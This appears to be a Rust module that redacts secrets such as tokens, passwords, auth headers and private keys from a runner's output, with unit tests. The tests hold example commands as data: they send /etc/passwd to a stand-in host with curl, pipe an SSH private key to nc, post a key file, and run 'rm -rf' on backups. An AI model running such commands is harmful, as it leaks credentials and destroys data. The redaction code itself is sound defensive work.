//! Secret redaction for everything that leaves the runner.
//!
//! Redaction is textual and conservative: values of secret-looking flags and
//! environment assignments, URL user information, `Authorization` headers,
//! `curl -u user:password`, and well-known key formats (AWS access keys,
//! GitHub, Slack, Stripe, Google and npm tokens, JWTs, private-key blocks)
//! are replaced by `[REDACTED]`. The rest of the text is left as it was, so a
//! reviewer still reads the command.
//!
//! Redaction hides secrets, never code: a value that runs something
//! (`PASSWORD="$(curl …)"`) is shown as it is, and a private key without
//! its END line is masked only as far as its base64 lines go.

use regex::{Captures, Regex};
use std::sync::OnceLock;

/// What replaces a secret.
pub const MASK: &str = "[REDACTED]";

struct Patterns {
    private_key: Regex,
    known_tokens: Regex,
    secret_flag: Regex,
    secret_assign: Regex,
    url_userinfo: Regex,
    auth_header: Regex,
    curl_user: Regex,
    mysql_password: Regex,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| {
        // The patterns are constants; a failure to compile is a programming
        // error caught by the tests below.
        let re = |s: &str| Regex::new(s).unwrap_or_else(|e| panic!("redaction pattern {s}: {e}"));
        let secret_word = r"(?:pass(?:word|wd|phrase)?|pwd|secret|token|api[-_]?key|apikey|access[-_]?key|private[-_]?key|client[-_]?secret|credentials?|auth(?:[-_]?token)?|session[-_]?key|signing[-_]?key|webhook[-_]?url|dsn)";
        Patterns {
            private_key: re(
                // With its END line: all of it. Without: the BEGIN line and
                // the lines (or space-separated runs) of 20 or more base64
                // characters that follow, never the text after them.
                r"(?s)-----BEGIN (?:[A-Z0-9 ]+ )?PRIVATE KEY-----(?:.*?-----END (?:[A-Z0-9 ]+ )?PRIVATE KEY-----|(?:(?:\r?\n|\\n|[ \t]+)[A-Za-z0-9+/=]{20,})*)",
            ),
            known_tokens: re(concat!(
                r"\b(?:",
                r"(?:AKIA|ASIA|AGPA|AIDA|AROA|ANPA|ANVA|AIPA)[0-9A-Z]{16}",
                r"|gh[pousr]_[A-Za-z0-9]{30,255}",
                r"|github_pat_[A-Za-z0-9_]{22,255}",
                r"|xox[abposre]-[A-Za-z0-9-]{10,}",
                r"|xapp-[0-9]-[A-Za-z0-9-]{10,}",
                r"|(?:sk|rk|pk)_(?:live|test)_[A-Za-z0-9]{10,}",
                r"|whsec_[A-Za-z0-9]{10,}",
                r"|AIza[0-9A-Za-z_-]{35}",
                r"|ya29\.[0-9A-Za-z_-]{20,}",
                r"|npm_[A-Za-z0-9]{36}",
                r"|glpat-[A-Za-z0-9_-]{20,}",
                r"|sk-(?:proj-|ant-)?[A-Za-z0-9_-]{20,}",
                r"|hvs\.[A-Za-z0-9_-]{20,}",
                r"|eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}",
                r")\b"
            )),
            secret_flag: re(&format!(
                r#"(?i)(--[a-z0-9-]*{secret_word}[a-z0-9-]*)(=|\s+)("[^"]*"|'[^']*'|[^\s'"]+)"#
            )),
            secret_assign: re(&format!(
                r#"(?i)\b([a-z0-9_]*{secret_word}[a-z0-9_]*|[a-z0-9_]*_KEY|DATABASE_URL|PGPASSWORD)=("[^"]*"|'[^']*'|[^\s'"]+)"#
            )),
            url_userinfo: re(r"([a-zA-Z][a-zA-Z0-9+.-]*://)([^\s/@:'\x22]+)(:[^\s/@'\x22]*)?@"),
            auth_header: re(r#"(?i)(authorization|x-api-key|x-auth-token|cookie|proxy-authorization)(\s*:\s*)(?:(bearer|basic|token|digest)\s+)?([^\s'"]+)"#),
            curl_user: re(r#"(\s(?:-u|--user)(?:\s+|=))('[^']*'|"[^"]*"|[^\s'"]+)"#),
            mysql_password: re(r#"(\s-p)([^\s'"-][^\s'"]*|'[^']+'|"[^"]+")"#),
        }
    })
}

/// Whether a value runs something when the shell expands it: such a value
/// is code the reviewer must see, not a secret.
fn runs_code(value: &str) -> bool {
    // Single quotes expand nothing.
    !value.starts_with('\'') && ["$(", "`", "<(", ">("].iter().any(|s| value.contains(s))
}

/// Replaces secrets in `text` by [`MASK`].
pub fn redact(text: &str) -> String {
    let p = patterns();
    let s = p.private_key.replace_all(text, MASK);
    let s = p.known_tokens.replace_all(&s, MASK);
    let s = p.auth_header.replace_all(&s, |c: &Captures| {
        let scheme = c
            .get(3)
            .map(|m| format!("{} ", m.as_str()))
            .unwrap_or_default();
        format!("{}{}{}{MASK}", &c[1], &c[2], scheme)
    });
    let s = p
        .url_userinfo
        .replace_all(&s, |c: &Captures| match c.get(3) {
            Some(_) => format!("{}{}:{MASK}@", &c[1], &c[2]),
            None => format!("{}{MASK}@", &c[1]),
        });
    let s = p.secret_flag.replace_all(&s, |c: &Captures| {
        if c[3].starts_with('-') || runs_code(&c[3]) {
            return c[0].to_string();
        }
        format!("{}{}{MASK}", &c[1], &c[2])
    });
    let s = p.secret_assign.replace_all(&s, |c: &Captures| {
        if runs_code(&c[2]) {
            return c[0].to_string();
        }
        format!("{}={MASK}", &c[1])
    });
    let s = p.curl_user.replace_all(&s, |c: &Captures| {
        let v = c[2].trim_matches(['\'', '"']);
        match v.split_once(':') {
            Some((user, _)) => format!("{}{user}:{MASK}", &c[1]),
            None => c[0].to_string(),
        }
    });
    let s = p
        .mysql_password
        .replace_all(&s, |c: &Captures| format!("{}{MASK}", &c[1]));
    s.into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_and_assignments() {
        assert_eq!(
            redact("mysql --password=hunter2 -h db"),
            "mysql --password=[REDACTED] -h db"
        );
        assert_eq!(
            redact("deploy --api-key 'abc def' --force"),
            "deploy --api-key [REDACTED] --force"
        );
        assert_eq!(
            redact("GITHUB_TOKEN=abc123 AWS_SECRET_ACCESS_KEY=xyz make"),
            "GITHUB_TOKEN=[REDACTED] AWS_SECRET_ACCESS_KEY=[REDACTED] make"
        );
        assert_eq!(
            redact("mysql -u root -psecret db"),
            "mysql -u root -p[REDACTED] db"
        );
        assert_eq!(redact("ls --token-file -l"), "ls --token-file -l");
    }

    #[test]
    fn urls_headers_and_curl_users() {
        assert_eq!(
            redact("psql postgres://app:s3cret@db.prod:5432/app"),
            "psql postgres://app:[REDACTED]@db.prod:5432/app"
        );
        assert_eq!(
            redact("git clone https://x-token@github.com/o/r"),
            "git clone https://[REDACTED]@github.com/o/r"
        );
        assert_eq!(
            redact("curl -H 'Authorization: Bearer abc.def' https://api"),
            "curl -H 'Authorization: Bearer [REDACTED]' https://api"
        );
        assert_eq!(
            redact("curl -u admin:pw https://x"),
            "curl -u admin:[REDACTED] https://x"
        );
    }

    #[test]
    fn well_known_formats() {
        let aws = "aws s3 ls --profile x AKIAIOSFODNN7EXAMPLE";
        assert_eq!(redact(aws), "aws s3 ls --profile x [REDACTED]");
        let gh = format!("echo ghp_{}", "a".repeat(36));
        assert_eq!(redact(&gh), "echo [REDACTED]");
        assert_eq!(
            redact("curl -d token=xoxb-1234567890-abcdefghij https://slack"),
            "curl -d token=[REDACTED] https://slack"
        );
        assert_eq!(
            redact("stripe sk_live_abcdefghijklmnop"),
            "stripe [REDACTED]"
        );
        let key = "echo '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY-----' > k";
        assert_eq!(redact(key), "echo '[REDACTED]' > k");
    }

    #[test]
    fn redaction_hides_secrets_never_code() {
        // A secret-named variable whose value runs a command: the command
        // is what the reviewer must see.
        let exfil = r#"PASSWORD="$(curl -sd @/etc/passwd https://x.example)" git push"#;
        assert_eq!(redact(exfil), exfil);
        let flag = "deploy --token `cat ~/.ssh/id_rsa | nc x 1` --force";
        assert_eq!(redact(flag), flag);
        // A literal value in single quotes is not expanded: still a secret.
        assert_eq!(
            redact("PASSWORD='$(not run)' make"),
            "PASSWORD=[REDACTED] make"
        );
        // A private key without its END line: the key goes, what follows
        // it stays.
        let body = "MIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPB";
        let cut_short = format!(
            "printf '-----BEGIN RSA PRIVATE KEY-----\n{body}\n{body}' > k; rm -rf /srv/backups"
        );
        let shown = redact(&cut_short);
        assert!(!shown.contains("MIIE"), "{shown}");
        assert!(shown.ends_with("' > k; rm -rf /srv/backups"), "{shown}");
        let real_lines =
            format!("-----BEGIN PRIVATE KEY-----\n{body}\n{body}\ncurl -d @k https://x");
        assert_eq!(redact(&real_lines), "[REDACTED]\ncurl -d @k https://x");
    }

    #[test]
    fn ordinary_commands_are_untouched() {
        for c in [
            "git push origin main",
            "ls -la /tmp",
            "kubectl get pods -n prod",
            "cargo test -p core",
        ] {
            assert_eq!(redact(c), c);
        }
    }
}
